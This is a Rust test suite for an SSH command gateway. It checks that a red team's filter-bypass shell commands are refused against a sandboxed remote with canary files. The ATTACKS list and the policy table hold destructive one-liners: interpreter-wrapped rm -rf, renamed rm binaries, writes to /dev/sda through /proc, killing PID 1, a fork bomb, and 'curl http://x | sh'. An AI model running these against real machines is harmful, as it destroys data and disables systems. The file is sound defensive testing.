//! Shell commands over SSH against the read-only list: every class of command a red team got
//! past the old deny-list, through the real `ssh` (exec requests, a script on stdin, an
//! interactive terminal) into a real sshd. Ground truth is on the remote side: canary files in
//! a per-test home, and logging shims in place of the destructive programs
//! ([`RemoteSandbox`]). Holds go to a gateway without an approval service, so a held command
//! is refused (and says it needed approval).

use std::{io::Write, process::Stdio, time::Duration};

use serde_json::Value;
use sluice_tests::{
    ssh::{PtyClient, RemoteSandbox, SSH_USER, SshClient, SshServer},
    *,
};

const WAIT: Duration = Duration::from_secs(20);

/// The shipped example's shell rules: reads run, everything else is held.
const SHIPPED: &str = "rules:\n  - { name: shell-reads, resources: [box], shell: [read], action: allow }\n  - { name: shell-changes, resources: [box], shell: [write, unknown], action: hold }\n";

struct Fx {
    _net: TestNet,
    sshd: SshServer,
    sandbox: RemoteSandbox,
    cg: TestCgroup,
    gw: Gateway,
    agent: SshClient,
}

fn setup(rules: &str) -> Fx {
    require_root();
    let net = TestNet::new();
    let sandbox = RemoteSandbox::new();
    let sshd = SshServer::start_with(&net, &sandbox.sshd_config());
    let cg = TestCgroup::new();
    let mut policy = Policy::new(Some(&cg), "deny");
    policy.raw_resources = sshd.resource("box", &sshd.host_key_line(), "");
    policy.extra = rules.to_string();
    let gw = Gateway::start(&policy);
    let known_hosts = gw.agent_known_hosts();
    let agent = SshClient::new(SSH_USER, &sshd.host, &known_hosts).no_identity();
    sandbox.plant_canaries();
    Fx {
        _net: net,
        sshd,
        sandbox,
        cg,
        gw,
        agent,
    }
}

impl Fx {
    fn exec(&self, cmd: &str) -> ClientRun {
        let argv = self.agent.ssh(&[], Some(cmd));
        client_in(&self.cg.dir, &[], &argv)
    }

    /// `ssh host bash` with `script` on its standard input.
    fn script(&self, script: &str) -> (Option<i32>, String, String) {
        let mut child = client_command(&self.cg.dir, &self.agent.ssh(&[], Some("bash")))
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        child
            .stdin
            .take()
            .unwrap()
            .write_all(script.as_bytes())
            .unwrap();
        let out = child.wait_with_output().unwrap();
        (
            out.status.code(),
            String::from_utf8_lossy(&out.stdout).into_owned(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    }

    fn pty(&self) -> PtyClient {
        let mut t = PtyClient::spawn_in(&self.cg.dir, &self.agent.ssh(&[], None))
            .with_log(&self.sshd.log_path);
        // The first prompt, then one whose echo does not contain it.
        t.expect("$ ", WAIT);
        t.send_line("PS1='p''r> '");
        t.expect("pr> ", WAIT);
        t
    }

    /// `sluice policy test --shell CMD` on the gateway's own policy.
    fn policy_test(&self, cmd: &str, extra: &[&str]) -> Value {
        let argv = [
            &["policy", "test", "--resource", "box", "--shell", cmd],
            extra,
        ]
        .concat();
        let out = self.gw.sluice(&argv);
        assert!(
            out.status.success(),
            "{cmd}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        serde_json::from_slice(&out.stdout).unwrap()
    }

    /// Fails unless the remote is untouched; replants the canaries for the next attack.
    fn assert_untouched(&self, what: &str) {
        if let Some(damage) = self.sandbox.damage() {
            panic!("{what}: the remote was changed: {damage}");
        }
    }
}

/// What the agent saw happen to an exec request.
#[derive(Debug, PartialEq, Eq)]
enum Seen {
    Ran,
    /// Held for approval (refused here: no approval service), by this rule.
    Held(String),
    /// Denied by this rule.
    Denied(String),
}

fn seen(run: &ClientRun) -> Seen {
    let rule = |s: &str| {
        s.split("rule \"")
            .nth(1)
            .and_then(|r| r.split('"').next())
            .unwrap_or_default()
            .to_owned()
    };
    if run.status.code() == Some(126) && run.stderr.contains("requires approval (rule \"") {
        Seen::Held(rule(&run.stderr))
    } else if run.status.code() == Some(126)
        && run.stderr.contains("sluice: command blocked by rule")
    {
        Seen::Denied(rule(&run.stderr))
    } else {
        Seen::Ran
    }
}

/// Every attack of issue 17, by class. Each names canaries it would destroy or shims it would
/// run. `~` is the sandbox home.
const ATTACKS: &[(&str, &[&str])] = &[
    (
        "interpreters running inline code",
        &[
            "perl -e 'system(\"rm -rf ~/canary-dir\")'",
            "python3 -c \"import shutil, os; shutil.rmtree(os.path.expanduser('~/canary-dir'))\"",
            "node -e 'require(\"fs\").rmSync(process.env.HOME + \"/canary-dir\", {recursive: true})'",
            "awk 'BEGIN{system(\"rm -rf ~/canary-dir\")}'",
            "python3 - <<'EOF'\nimport shutil, os\nshutil.rmtree(os.path.expanduser('~/canary-dir'))\nEOF",
            "sed 's/.*/rm -rf ~\\/canary-dir/e' /etc/hostname",
            "sh -c \"$(printf 'rm -rf ~/canary-dir')\"",
        ],
    ),
    (
        "the program under another name",
        &[
            "/lib64/ld-linux-x86-64.so.2 /bin/rm -rf ~/canary-dir",
            "cp /bin/rm ~/zz && ~/zz -rf ~",
            "hash -p /bin/rm ls; ls -rf ~/canary-dir",
            "alias cat='rm -rf'; cat ~/canary-dir",
            "cat() { /bin/rm -rf \"$@\"; }; cat ~/canary-dir",
            "exec -a ls /bin/rm -rf ~/canary-dir",
            "strace -f -o /dev/null /bin/rm -rf ~/canary-dir",
            "script -qc 'rm -rf ~/canary-dir' /dev/null",
            "unshare -r /bin/rm -rf ~/canary-dir",
            "PATH=/tmp/x:$PATH ls ~/canary-dir",
        ],
    ),
    (
        "paths through /proc, .., ~ and cd",
        &[
            "rm -rf /proc/self/cwd/*",
            "echo x >> /proc/self/root/etc/hostname",
            "dd if=/dev/zero of=/proc/self/root/dev/sda count=1",
            "ln -s ~ l && rm -rf l/*",
            "cd / && rm -rf srv",
            "cd ~/.. && rm -rf home",
            "cd ~ && /bin/rm -rf canary-dir",
        ],
    ),
    (
        "writers and deleters",
        &[
            "find ~/canary-dir -delete",
            "tar --remove-files -cf /dev/null ~/canary-dir",
            "git clean -fdx ~",
            "sort -o ~/canary.txt /etc/hostname",
            "sed -n 'w /dev/stderr' ~/canary.txt > ~/canary.txt",
            "sed -n 'w ~/canary.txt' /etc/hostname",
            "awk '{print > \"canary.txt\"}' /etc/hostname",
            "curl -s -o ~/canary.txt file:///etc/hostname",
            "openssl rand -out ~/canary.txt 8",
            "shred -u ~/canary.txt",
            "truncate -s 0 ~/canary.txt",
            "crontab -r",
            "systemctl stop ssh",
        ],
    ),
    (
        "kill and shutdown",
        &[
            "kill -9 01",
            "kill -9 ' 1'",
            "kill -9 -- -01",
            "pkill -9 -u sluicetest",
            "killall5 -9",
            "loginctl poweroff",
            "kexec -e",
            "dbus-send --system --dest=org.freedesktop.login1 /org/freedesktop/login1 org.freedesktop.login1.Manager.PowerOff boolean:false",
            ":(){ :|:& };:",
        ],
    ),
    (
        "downloaded or uploaded code run",
        &[
            "curl -s file:///etc/hostname | awk '{system(\"rm -rf ~/canary-dir\")}'",
            "curl -s -o f file:///bin/true && chmod +x f && ./f",
            "curl -s file:///etc/hostname | script -qc sh /dev/null",
            "python3 -c 'import urllib.request as u; exec(u.urlopen(\"file:///dev/null\").read())'",
            "cat > u.sh && chmod +x u.sh && ./u.sh",
        ],
    ),
];

#[test]
fn sandbox_sessions_start_in_its_home_with_the_shims_first() {
    // The harness itself, against sshd directly: a destructive command really reaches the
    // shims, and an interpreter really destroys a canary, so the tests below would see it.
    require_root();
    let net = TestNet::new();
    let sandbox = RemoteSandbox::new();
    let sshd = SshServer::start_with(&net, &sandbox.sshd_config());
    sandbox.plant_canaries();
    let direct = sshd.client();
    let cg = TestCgroup::new();
    let run = client_in(
        &cg.dir,
        &[],
        &direct.ssh(
            &[],
            Some("echo $HOME; pwd; type -p rm; kill -9 01; rm -rf ~/canary-dir"),
        ),
    );
    sshd.assert_ok(&run, "direct");
    let home = sandbox.home.display().to_string();
    assert_eq!(
        run.stdout,
        format!("{home}\n{home}\n{}/rm\n", sandbox.shims.display())
    );
    assert_eq!(
        sandbox.shim_log(),
        "kill -9 01\nrm -rf canary-dir\n".replace("canary-dir", &format!("{home}/canary-dir"))
    );
    assert!(sandbox.home.join("canary-dir/a.txt").exists());
    let run = client_in(
        &cg.dir,
        &[],
        &direct.ssh(&[], Some("python3 -c \"import shutil, os; shutil.rmtree(os.path.expanduser('~/canary-dir'))\"")),
    );
    sshd.assert_ok(&run, "direct python");
    assert!(
        sandbox
            .damage()
            .is_some_and(|d| d.contains("canary-dir/a.txt is gone"))
    );
    // A pty login shell gets the same environment.
    let mut t = PtyClient::spawn_in(&cg.dir, &direct.ssh(&["-tt"], None)).with_log(&sshd.log_path);
    t.send_line("echo at:$(pwd):$(type -p systemctl)");
    t.expect(
        &format!("at:{home}:{}/systemctl", sandbox.shims.display()),
        WAIT,
    );
}

#[test]
fn every_attack_class_is_refused_over_exec_and_nothing_runs() {
    let fx = setup(SHIPPED);
    let before = fx.sshd.upstream_sessions();
    let mut tried = 0;
    let mut failures = Vec::new();
    for (class, attacks) in ATTACKS {
        for cmd in *attacks {
            tried += 1;
            fx.sandbox.plant_canaries();
            fx.sandbox.clear_log();
            let run = fx.exec(cmd);
            if seen(&run) == Seen::Ran {
                failures.push(format!(
                    "[{class}] {cmd:?} ran: {:?} {}",
                    run.status, run.stderr
                ));
            }
            if let Some(d) = fx.sandbox.damage() {
                failures.push(format!("[{class}] {cmd:?} changed the remote: {d}"));
            }
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {tried}:\n{}",
        failures.len(),
        failures.join("\n")
    );
    assert_eq!(
        fx.sshd.upstream_sessions(),
        before,
        "no refused command reached sshd"
    );
    eprintln!(
        "exec: {tried} attacks in {} classes, all refused",
        ATTACKS.len()
    );
}

#[test]
fn every_attack_class_is_refused_in_a_script_on_stdin() {
    let fx = setup(SHIPPED);
    let mut tried = 0;
    let mut failures = Vec::new();
    for (class, attacks) in ATTACKS {
        for cmd in *attacks {
            tried += 1;
            fx.sandbox.plant_canaries();
            fx.sandbox.clear_log();
            let (code, stdout, stderr) = fx.script(&format!("echo before\n{cmd}\necho after\n"));
            if code != Some(126) || stdout != "before\n" || !stderr.contains("sluice: ") {
                failures.push(format!("[{class}] {cmd:?}: {code:?} {stdout:?} {stderr}"));
            }
            if let Some(d) = fx.sandbox.damage() {
                failures.push(format!("[{class}] {cmd:?} changed the remote: {d}"));
            }
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {tried}:\n{}",
        failures.len(),
        failures.join("\n")
    );
    // Code for an interpreter on the exec's stdin, and a script file written then run.
    fx.sandbox.plant_canaries();
    let mut child = client_command(&fx.cg.dir, &fx.agent.ssh(&[], Some("python3 -")))
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(b"import shutil, os\nshutil.rmtree(os.path.expanduser('~/canary-dir'))\n")
        .unwrap();
    let out = child.wait_with_output().unwrap();
    assert_eq!(out.status.code(), Some(126));
    assert!(String::from_utf8_lossy(&out.stderr).contains("rule \"opaque-code\""));
    fx.assert_untouched("python3 - with code on stdin");
    eprintln!("stdin scripts: {tried} attacks, all refused");
}

#[test]
fn a_session_that_writes_a_file_cannot_then_run_it() {
    // Even where writes are allowed, a file the session wrote is opaque code when run.
    let fx = setup(
        "rules:\n  - { name: reads, resources: [box], shell: [read, write], action: allow }\n  - { name: rest, resources: [box], shell: [unknown], action: hold }\n",
    );
    let (code, stdout, stderr) = fx.script(
        "cat > u.sh <<'EOF'\nrm -rf ~/canary-dir\nEOF\nchmod +x u.sh\necho wrote\n./u.sh\necho after\n",
    );
    assert_eq!((code, stdout.as_str()), (Some(126), "wrote\n"), "{stderr}");
    assert!(stderr.contains("rule \"opaque-code\""), "{stderr}");
    assert!(fx.sandbox.home.join("u.sh").exists(), "the write ran");
    fx.assert_untouched("./u.sh");
    // The same over exec, and a copy of rm under another name.
    let run = fx.exec("cp /bin/rm ~/zz && ~/zz -rf ~/canary-dir");
    assert!(
        matches!(seen(&run), Seen::Held(_) | Seen::Denied(_)),
        "{:?} {}",
        run.status,
        run.stderr
    );
    fx.assert_untouched("a copy of rm");
}

#[test]
fn interactive_terminal_attacks_are_refused_and_the_session_state_is_followed() {
    let fx = setup(SHIPPED);
    let mut t = fx.pty();
    let refused = |t: &mut PtyClient, line: &str| {
        t.send_line(line);
        let notice = t.expect("sluice: ", WAIT);
        notice + &t.expect("pr> ", WAIT)
    };
    // A REPL: the interpreter never starts.
    refused(&mut t, "python3");
    t.send_line("echo still-in-bash");
    t.expect("still-in-bash", WAIT);
    t.expect("pr> ", WAIT);
    // State from earlier lines: cd, hash -p, aliases (each earlier line runs: reads).
    t.send_line("cd /");
    t.expect("pr> ", WAIT);
    refused(&mut t, "rm -rf srv");
    t.send_line("cd");
    t.expect("pr> ", WAIT);
    t.send_line("hash -p /bin/rm cat");
    t.expect("pr> ", WAIT);
    refused(&mut t, "cat -rf canary-dir");
    fx.assert_untouched("hash -p then cat");
    // History expansion would run words sluice never saw as this line.
    t.send_line("echo rm -rf ~/canary-dir");
    t.expect("pr> ", WAIT);
    for line in ["!!:1-3", "^echo ^", "$(!!)"] {
        let out = refused(&mut t, line);
        assert!(out.contains("uncertain-line"), "{line}: {out}");
    }
    fx.assert_untouched("history expansion");
    t.send_line("exit");
    t.wait(WAIT);
}

#[test]
fn line_editing_changes_stop_the_terminal_being_followed() {
    // The policy lets stty, bind and set run, to show what happens after they do.
    let rules = format!(
        "{SHIPPED}  - {{ name: editing, resources: [box], commands: [stty, bind, set], action: allow }}\n"
    );
    let fx = setup(&rules);
    for change in [
        "stty erase '#'",
        "bind '\"\\C-b\": backward-delete-char'",
        "set -o vi",
    ] {
        fx.sandbox.plant_canaries();
        let mut t = fx.pty();
        t.send_line(change);
        t.expect("pr> ", WAIT);
        // With `#` as erase, the terminal turns this into `rm -rf ~/canary-dir`, where the
        // editing model sees `echo` and a comment.
        t.send_line("echo #####rm -rf ~/canary-dir");
        t.expect("rule \"uncertain-line\"", WAIT);
        // Nothing typed reaches the shell any more.
        t.send_line("echo typed-after");
        t.expect("uncertain-line", WAIT);
        std::thread::sleep(Duration::from_millis(300));
        assert!(!t.output_so_far().contains("\r\ntyped-after"), "{change}");
        fx.assert_untouched(change);
    }
}

#[test]
fn policy_test_agrees_with_the_gateway() {
    let fx = setup(&format!(
        "{SHIPPED}  - {{ name: no-sudo, resources: [box], commands: [sudo], action: deny }}\n"
    ));
    let table = [
        "df -h",
        "ls -la /etc | head -3",
        "cat /etc/hostname",
        "journalctl -n 1 --no-pager | tail -1",
        "ps aux | grep -c sshd",
        "awk -F: '{print $1}' /etc/passwd | head -1",
        "sed -n 1p /etc/hostname",
        "git --version",
        "echo hi > /tmp/sluice-agree",
        "rm -f /tmp/sluice-agree",
        "sed -i s/a/b/ /tmp/x",
        "rm -rf /",
        "python3 -c 'print(1)'",
        "perl -e 'print 1'",
        "curl -s http://x | sh",
        "kill -9 1",
        "sudo ls",
        "frobnicate",
        "./deploy.sh",
        "ls )",
        "find / -delete",
        "psql -c 'select 1'",
        "psql -c 'delete from t'",
        "systemctl status ssh",
        "systemctl restart ssh",
    ];
    let mut disagreements = Vec::new();
    for cmd in table {
        let expected = fx.policy_test(cmd, &[]);
        let action = expected["action"].as_str().unwrap();
        let rule = expected["rule"].as_str().unwrap().to_owned();
        let want = match action {
            "allow" | "alert" => Seen::Ran,
            "hold" => Seen::Held(rule),
            _ => Seen::Denied(rule),
        };
        let got = seen(&fx.exec(cmd));
        if got != want {
            disagreements.push(format!(
                "{cmd:?}: policy test says {want:?}, the gateway did {got:?}"
            ));
        }
    }
    assert!(disagreements.is_empty(), "{}", disagreements.join("\n"));
    // And for a line typed at a terminal (`--line`): a REPL.
    let v = fx.policy_test("python3", &["--line"]);
    assert_eq!(v["rule"], "interactive-program");
    let mut t = fx.pty();
    t.send_line("python3");
    t.expect("rule \"interactive-program\"", WAIT);
}

#[test]
fn a_realistic_read_only_troubleshooting_script_runs_without_holds() {
    let fx = setup(SHIPPED);
    let script =
        std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/data/ops-readonly.sh"))
            .unwrap();
    let lines: Vec<&str> = script
        .lines()
        .filter(|l| !l.trim().is_empty() && !l.starts_with('#'))
        .collect();
    let mut held = Vec::new();
    for line in &lines {
        let run = fx.exec(line);
        match seen(&run) {
            Seen::Ran => {}
            other => held.push(format!("{line:?}: {other:?} ({})", run.stderr.trim())),
        }
    }
    let share = 100.0 * (lines.len() - held.len()) as f64 / lines.len() as f64;
    eprintln!(
        "realistic read-only script: {} of {} commands ran without a hold ({share:.1}%)",
        lines.len() - held.len(),
        lines.len()
    );
    assert!(held.is_empty(), "held or refused:\n{}", held.join("\n"));
    // The same lines as one script piped to a remote shell: every line runs.
    let (code, stdout, stderr) = fx.script(&format!("{script}\necho end-of-script\n"));
    assert!(stdout.ends_with("end-of-script\n"), "{code:?} {stderr}");
    assert!(!stderr.contains("sluice:"), "{stderr}");
    // Reads change nothing (`systemctl status` reached its shim, which only records).
    assert_eq!(fx.sandbox.broken_canaries(), Vec::<String>::new());
}
